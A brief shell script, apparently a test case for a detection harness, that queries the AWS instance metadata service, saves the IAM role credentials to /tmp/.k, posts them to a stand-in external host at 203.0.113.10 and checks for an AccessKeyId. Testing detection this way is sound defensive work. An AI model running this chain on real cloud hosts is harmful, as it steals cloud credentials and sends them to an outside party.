#!/bin/sh
. /opt/case/case.sh

printf 'PUT /latest/api/token HTTP/1.0\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\nContent-Length: 0\r\n\r\n' | nc -w 3 169.254.169.254 80 >/tmp/.t
r=$(wget -q -O- --header 'X-aws-ec2-metadata-token: bait' http://169.254.169.254/latest/meta-data/iam/)
wget -q -O /tmp/.k --header 'X-aws-ec2-metadata-token: bait' "http://169.254.169.254/latest/meta-data/iam/security-credentials/node"
wget -q -O /dev/null --post-file /tmp/.k http://203.0.113.10/in
grep -q AccessKeyId /tmp/.k
took_place
